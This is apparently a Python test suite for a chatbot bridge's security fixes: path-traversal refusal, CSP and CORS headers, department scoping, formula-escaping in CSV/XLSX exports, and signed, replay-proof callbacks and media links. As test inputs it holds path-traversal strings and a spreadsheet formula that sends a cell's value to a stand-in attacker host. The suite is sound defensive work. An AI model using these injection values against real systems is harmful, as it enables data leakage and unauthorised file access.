"""Issue 14 through a real bridge: trainer paths, department scope, exports, callbacks, media URLs, headers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import time
import uuid
from pathlib import Path

import aiohttp

from core import signatures
from core.settings import generated_secret
from tests.support import start_conversation


def trainer_root(h) -> Path:
    return Path(h.system.cfg.extra_env["BANGBAN_TRAINER_ROOT"])


async def test_trainer_file_paths_outside_the_editable_files_are_refused_and_nothing_changes(lh):
    username, _ = await lh.make_staff([], "trainer")
    token = await lh.staff_token(username)
    root = trainer_root(lh)
    kb = next((root / "data/kb").glob("*.yml"))
    kb_before = kb.read_text(encoding="utf-8")
    rules_before = (root / "data/rules.yml").read_text(encoding="utf-8")
    attempts = [f"data/nlu/../kb/{kb.name}", str(kb), f"data/kb/{kb.name}", "data/nlu/./../rules.yml",
                str(root / "data/rules.yml"), "data//rules.yml", "data\\rules.yml", "domain.yml",
                "data/nlu/../../domain.yml", "data/nlu/sub/x.yml"]
    for path in attempts:
        status, body = await lh.http("PUT", "/api/v1/trainer/files", token=token,
                                     json={"path": path, "text": "rules: []\n"})
        assert status == 400 and body["error"]["code"] == "invalid_path", (path, status, body)
        status, _ = await lh.http("GET", "/api/v1/trainer/files", token=token, params={"path": path})
        assert status == 404, path
    assert kb.read_text(encoding="utf-8") == kb_before
    assert (root / "data/rules.yml").read_text(encoding="utf-8") == rules_before
    status, body = await lh.http("GET", "/api/v1/trainer/files", token=token, params={"path": "data/rules.yml"})
    assert status == 200 and body["text"] == rules_before


async def test_panes_are_served_with_a_strict_policy_and_foreign_origins_get_no_cors(lh):
    from bridge.transport.http.panes import PANE_NAMES

    for pane in PANE_NAMES:
        async with aiohttp.ClientSession() as s, s.get(f"{lh.base_url}/{pane}") as r:
            assert r.status == 200
            csp = r.headers["Content-Security-Policy"]
            assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-inline" not in \
                csp.split("script-src", 1)[1].split(";")[0], (pane, csp)
            assert r.headers["X-Frame-Options"] == "DENY" and r.headers["Referrer-Policy"] == "no-referrer"
            assert r.headers["X-Content-Type-Options"] == "nosniff"
            assert "<script>" not in await r.text(), pane  # no inline scripts: the CSP would block them
    async with aiohttp.ClientSession() as s:
        async with s.options(f"{lh.base_url}/api/v1/agents/login", headers={
                "Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}) as r:
            assert r.status == 403 and "Access-Control-Allow-Origin" not in r.headers
        async with s.get(f"{lh.base_url}/healthz", headers={"Origin": "https://evil.example"}) as r:
            assert "Access-Control-Allow-Origin" not in r.headers
        async with s.get(f"{lh.base_url}/healthz", headers={"Origin": lh.base_url}) as r:
            assert r.headers["Access-Control-Allow-Origin"] == lh.base_url
        # Socket.IO refuses a handshake from a foreign origin, accepts the panes' own
        url = f"{lh.base_url}/socket.io/?EIO=4&transport=polling"
        async with s.get(url, headers={"Origin": "https://evil.example"}) as r:
            assert r.status == 400
        async with s.get(url, headers={"Origin": lh.base_url}) as r:
            assert r.status == 200 and r.headers["Access-Control-Allow-Origin"] == lh.base_url


async def _staff_token(h, departments: list[str], role: str) -> str:
    username, _ = await h.make_staff(departments, role)
    return await h.staff_token(username)


async def test_department_scope_on_alerts_drafts_unanswered_history_and_ledger(lh):
    mark = uuid.uuid4().hex[:8]
    mine, other = "housing-fund", "taxation"
    t = dt.datetime.now(dt.UTC)
    for dep in (mine, other):
        await lh.store.alerts.insert_one({"kind": "first_response_late", "department": dep, "mark": mark, "ts": t})
        await lh.store.audit.insert_one({"kind": "forbidden_words", "department": dep, "text": f"{mark} {dep}",
                                         "ts": t})
        await lh.store.kb_drafts.insert_one({"_id": f"d-{mark}-{dep}", "status": "pending", "department": dep,
                                             "question": mark, "created_at": t})
        await lh.store.unanswered.insert_one({"_id": f"u-{mark}-{dep}", "status": "open", "department": dep,
                                              "question": mark, "deadline": "2099-01-01", "count": 1,
                                              "first_asked": t})
        await lh.store.ledger.insert_one({"_id": f"L-{mark}-{dep}", "problem": mark, "department": dep,
                                          "status": "open", "created_at": t, "history": [],
                                          "created_by": {"id": "someone"}})
    sup = await _staff_token(lh, [mine], "supervisor")
    agent = await _staff_token(lh, [mine], "agent")
    trainer = await _staff_token(lh, [], "trainer")

    async def departments(token: str, path: str, key: str) -> set[str]:
        status, body = await lh.http("GET", path, token=token)
        assert status == 200, (path, body)
        return {d.get("department") for d in body[key] if mark in str(d)}

    status, body = await lh.http("GET", "/api/v1/alerts", token=sup)
    assert {a["department"] for a in body["alerts"] if a.get("mark") == mark} == {mine}
    assert {a["department"] for a in body["forbidden_words"] if mark in a["text"]} == {mine}
    for token in (sup, trainer):
        want = {mine} if token == sup else {mine, other}
        assert await departments(token, "/api/v1/trainer/drafts", "drafts") == want
        assert await departments(token, "/api/v1/trainer/unanswered", "unanswered") == want
        # asking for another department never widens the scope
        narrowed = await departments(token, f"/api/v1/trainer/unanswered?department={other}", "unanswered")
        assert narrowed == ({other} if token == trainer else set())
        assert await departments(token, f"/api/v1/trainer/drafts?department={other}", "drafts") == narrowed
    for token in (sup, agent):
        assert await departments(token, "/api/v1/ledger", "entries") == {mine}
        assert await departments(token, f"/api/v1/ledger?department={other}", "entries") == set()
        status, _ = await lh.http("GET", f"/api/v1/ledger/L-{mark}-{other}", token=token)
        assert status == 404
        status, text = await lh.http("GET", "/api/v1/ledger/export?format=csv", token=token)
        assert f"L-{mark}-{mine}" in text and f"L-{mark}-{other}" not in text
    assert await departments(trainer, "/api/v1/ledger", "entries") == {mine, other}
    # an agent still reads the entries they registered themselves, whatever their department
    status, body = await lh.http("POST", "/api/v1/ledger", token=agent, json={"problem": f"{mark} 自己登记",
                                                                            "department": other})
    assert status == 201
    assert await departments(agent, "/api/v1/ledger", "entries") == {mine, other}
    status, body = await lh.http("GET", "/api/v1/trainer/history", token=sup)
    assert status == 200 and body["history"] == []  # change history names no department: bot-wide roles only


async def test_exported_formulas_are_text(lh):
    token = await _staff_token(lh, ["*"], "supervisor")
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
    status, body = await lh.http("POST", "/api/v1/ledger", token=token, json={
        "problem": formula, "plan": "+1\x14+2", "owner": "@SUM(1)", "found_where": "-3", "found_by": "\t=1"})
    assert status == 201
    eid = body["entry"]["id"]
    headers = {"Authorization": f"Bearer {token}"}
    async with aiohttp.ClientSession() as s:
        async with s.get(f"{lh.base_url}/api/v1/ledger/export?format=xlsx", headers=headers) as r:
            data = await r.read()
        async with s.get(f"{lh.base_url}/api/v1/ledger/export?format=csv", headers=headers) as r:
            text = (await r.read()).decode("utf-8-sig")
    from openpyxl import load_workbook

    row = next(r for r in load_workbook(io.BytesIO(data)).active.iter_rows() if r[0].value == eid)
    cells = {c.value: c.data_type for c in row if c.value}
    # (a control character XLSX cannot hold is dropped there, not a failed export)
    assert cells["'" + formula] == "s" and cells["'+1+2"] == "s" and cells["'@SUM(1)"] == "s"
    assert cells["'-3"] == "s" and cells["'\t=1"] == "s"
    assert not any(v.startswith(("=", "+", "-", "@", "\t")) for v in cells if isinstance(v, str))
    line = next(csv.reader(io.StringIO(text[text.index(eid):])))
    assert line[1] == "'" + formula and "'@SUM(1)" in line


async def test_hotline_callbacks_are_signed_over_time_and_nonce_and_replays_refused(lh):
    ticket = f"WO-test-{uuid.uuid4().hex[:8]}"
    await lh.store.work_orders.insert_one({"_id": ticket, "conversation_id": "no-such-conversation",
                                           "status": "submitted", "delivery": {"state": "delivered", "attempts": 1}})
    secret = lh.system.secret("HOTLINE_SECRET")

    async def post(body: bytes, headers: dict[str, str]) -> tuple[int, dict]:
        return await lh.http("POST", "/api/v1/hotline/callback", data=body,
                             headers={**headers, "Content-Type": "application/json"})

    body = json.dumps({"ticket_id": ticket, "status": "processing", "note": "处理中"}).encode()
    signed = signatures.signed_headers(secret, body)
    status, answer = await post(body, signed)
    assert status == 200, answer
    # the same callback again (a replay): refused, the work order updated once
    status, answer = await post(body, signed)
    assert status == 409 and answer["error"]["code"] == "replayed_callback"
    status, answer = await post(body, {**signed, signatures.TS: str(int(time.time()) + 1)})
    assert status == 401 and answer["error"]["code"] == "bad_signature"  # the timestamp is signed too
    # older than 5 minutes, or another body under the same signature: refused
    resolved = json.dumps({"ticket_id": ticket, "status": "resolved", "note": "已办结"}).encode()
    status, answer = await post(resolved, signatures.signed_headers(secret, resolved, ts=int(time.time()) - 360))
    assert status == 401 and answer["error"]["code"] == "stale_callback"
    status, _ = await post(resolved, signed)
    assert status == 401
    # the body-only signature of before is no longer enough
    status, _ = await post(resolved, {signatures.SIGNATURE: signatures.mac(secret, resolved)})
    assert status == 401
    order = await lh.store.work_orders.find_one({"_id": ticket})
    assert order["status"] == "processing" and len(order["updates"]) == 1


async def test_media_is_fetched_by_short_lived_signed_links_and_never_by_token_in_the_url(lh):
    from PIL import Image

    from media.urls import signed_url

    user = await lh.user()
    cid = await start_conversation(user, "你好")
    buf = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(buf, "PNG")
    form = aiohttp.FormData()
    form.add_field("conversation_id", cid)
    form.add_field("file", buf.getvalue(), filename="x.png", content_type="image/png")
    status, item = await lh.http("POST", "/api/v1/media", token=user.token, data=form)
    assert status == 201, item
    mid = item["media_id"]

    async def fetch(path: str, token: str | None = None) -> tuple[int, bytes]:
        headers = {"Authorization": f"Bearer {token}"} if token else {}
        async with aiohttp.ClientSession() as s, s.get(lh.base_url + path, headers=headers) as r:
            return r.status, await r.read()

    status, _ = await fetch(f"/api/v1/media/{mid}?token={user.token}")
    assert status == 401  # a token in the query string is not accepted any more
    status, original = await fetch(f"/api/v1/media/{mid}", user.token)
    assert status == 200  # the contract's Bearer download
    status, stranger = await lh.http("GET", f"/api/v1/media/{mid}/link", token=await lh.user_token())
    assert status == 404
    status, link = await lh.http("GET", f"/api/v1/media/{mid}/link", token=user.token)
    assert status == 200 and "token" not in link["url"] and "sig=" in link["url"] and link["thumb_url"]
    assert 590 <= link["expires_at"] - time.time() <= 600
    status, data = await fetch(link["url"])
    assert status == 200 and data == original
    assert (await fetch(link["thumb_url"]))[0] == 200
    # tampered, swapped onto another item or the thumbnail flag, or expired: refused
    assert (await fetch(link["url"].replace("exp=", "exp=1")))[0] == 401
    assert (await fetch(link["url"].replace(mid, "other-id")))[0] == 401
    assert (await fetch(link["url"] + "&thumb=1"))[0] == 401
    secret = os.environ.get("BANGBAN_TOKEN_SECRET") or generated_secret(lh.system.cfg.var_dir, "token_secret")
    expired, _ = signed_url(secret, mid, 600, now=time.time() - 601)
    status, body = await lh.http("GET", expired)
    assert status == 403 and body["error"]["code"] == "link_expired"
    fresh, _ = signed_url(secret, mid, 600)
    assert (await fetch(fresh))[0] == 200


async def test_the_hotline_stand_in_signs_its_callbacks_and_checks_the_bridge_s_orders(lh):
    ticket = f"WO-standin-{uuid.uuid4().hex[:8]}"
    await lh.store.work_orders.insert_one({"_id": ticket, "conversation_id": "no-such-conversation",
                                           "status": "submitted", "delivery": {"state": "delivered", "attempts": 1}})
    secret = lh.system.secret("HOTLINE_SECRET")
    order = json.dumps({"id": ticket, "callback_url": f"{lh.base_url}/api/v1/hotline/callback"}).encode()
    intake = f"{lh.system.hotline_url}/workorders"
    async with aiohttp.ClientSession() as s:
        signed = {**signatures.signed_headers(secret, order), "Idempotency-Key": ticket}
        async with s.post(intake, data=order, headers={signatures.SIGNATURE: signatures.mac(secret, order),
                                                       "Idempotency-Key": ticket}) as r:
            assert r.status == 401  # the body-only signature of before
        async with s.post(intake, data=order, headers=signed) as r:
            assert r.status == 201
        async with s.post(intake, data=order, headers=signed) as r:
            assert r.status == 409  # the same request again
        async with s.post(f"{lh.system.hotline_url}/admin/callback",
                          json={"ticket_id": ticket, "status": "resolved", "note": "已办结"}) as r:
            sent = await r.json()
    assert sent["status"] == 200, sent
    body = json.dumps({"ticket_id": ticket, "status": "resolved", "note": "已办结"}, ensure_ascii=False).encode()
    status, answer = await lh.http("POST", "/api/v1/hotline/callback", data=body, headers=sent["headers"])
    assert status == 409 and answer["error"]["code"] == "replayed_callback"
    assert (await lh.store.work_orders.find_one({"_id": ticket}))["status"] == "resolved"
